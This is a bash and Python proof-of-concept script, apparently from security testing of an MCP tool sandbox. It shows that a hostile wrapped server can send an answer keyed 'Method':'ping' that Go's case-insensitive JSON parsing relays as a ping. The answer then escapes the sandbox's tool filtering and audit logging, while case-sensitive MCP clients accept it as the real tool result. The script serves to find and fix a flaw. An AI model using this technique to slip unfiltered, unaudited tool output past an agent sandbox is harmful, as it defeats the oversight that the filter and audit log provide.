#!/bin/bash
# atk38 F1: a wrapped server's answer with a "Method":"ping" key passes wrap's relay as a
# server->client ping request (Go's encoding/json reads keys case-insensitively), so it is
# neither filtered (hide_denied) nor audited as the call's outcome; clients that read keys
# case-sensitively (rmcp/Codex, the Python SDK, TS SDK before strict schemas) take it as the
# answer. Run as root. Needs /tmp/atk38/mcpsandbox (go build ./cmd/mcpsandbox) and python3.
set -u
D=/tmp/atk38/f1; rm -rf $D /tmp/atk38/f1audit; mkdir -p $D /tmp/atk38/f1audit; chmod 700 /tmp/atk38/f1audit; chmod 755 /tmp/atk38 $D
BIN=${BIN:-/tmp/atk38/mcpsandbox}
cp "$(dirname "$0")/hostile.py" $D/hostile.py 2>/dev/null || cp /tmp/atk38/hostile.py $D/hostile.py
chmod 755 $D/hostile.py
cat > $D/wrap.toml <<P
version = 1
scheme = "wrap"
name = "hostile"
[limits]
memory = "4GiB"
pids = 256
timeout = "3s"
[audit]
path = "/tmp/atk38/f1audit/audit.jsonl"
[wrap]
network = false
read = ["$D"]
[wrap.tools]
deny = ["secret_*"]
hide_denied = true
P
chmod 600 $D/wrap.toml
MODE=${MODE:-Method} python3 - "$BIN" "$D" <<'PY'
import subprocess, json, sys, time, select, os
bin, d = sys.argv[1], sys.argv[2]
env = dict(os.environ)
p = subprocess.Popen([bin, "wrap", "--policy", d+"/wrap.toml", "--", "/usr/bin/python3", d+"/hostile.py", os.environ.get("MODE","Method")],
    stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=open(d+"/wrap.err","wb"), env=env)
def send(o): p.stdin.write((json.dumps(o)+"\n").encode()); p.stdin.flush()
def frames(t):
    out=[]; end=time.time()+t
    while time.time()<end:
        r,_,_=select.select([p.stdout],[],[],max(0,end-time.time()))
        if not r: break
        l=p.stdout.readline()
        if not l: break
        out.append(l.decode().rstrip("\n"))
    return out
# The MCP Python SDK's message types (mcp/types.py, as in mcp 1.x: every model extra="allow",
# JSONRPCMessage = RootModel[JSONRPCRequest | JSONRPCNotification | JSONRPCResponse | JSONRPCError]),
# re-declared here with pydantic 2 so the script needs no SDK install.
from typing import Any, Literal
from pydantic import BaseModel, ConfigDict, RootModel
class _M(BaseModel): model_config = ConfigDict(extra="allow")
class JSONRPCRequest(_M): jsonrpc: Literal["2.0"]; id: int | str; method: str; params: dict[str, Any] | None = None
class JSONRPCNotification(_M): jsonrpc: Literal["2.0"]; method: str; params: dict[str, Any] | None = None
class JSONRPCResponse(_M): jsonrpc: Literal["2.0"]; id: int | str; result: dict[str, Any]
class ErrorData(_M): code: int; message: str; data: Any | None = None
class JSONRPCError(_M): jsonrpc: Literal["2.0"]; id: int | str; error: ErrorData
class JSONRPCMessage(RootModel[JSONRPCRequest | JSONRPCNotification | JSONRPCResponse | JSONRPCError]): pass
def case_sensitive_kind(f):
    # how the Python SDK (and serde-based clients such as rmcp: untagged enum, case-sensitive keys) classifies a frame
    m = JSONRPCMessage.model_validate_json(f).root
    return type(m).__name__ + (" to id %r" % m.id if hasattr(m, "id") else "")
send({"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"c","version":"1"}}})
print("init:", frames(15)[:1])
send({"jsonrpc":"2.0","method":"notifications/initialized","params":{}})
send({"jsonrpc":"2.0","id":2,"method":"tools/list","params":{}})
for f in frames(2): print("tools/list answer as relayed:", f, "\n  -> a case-sensitive client reads:", case_sensitive_kind(f))
send({"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"hello","arguments":{"x":1}}})
for f in frames(5): print("tools/call answer(s) as relayed:", f, "\n  -> a case-sensitive client reads:", case_sensitive_kind(f))
p.stdin.close(); p.wait(timeout=10)
PY
echo "== audit log (tools/call id 3):"
cat /tmp/atk38/f1audit/audit.jsonl
echo "== wrap stderr:"; cat $D/wrap.err
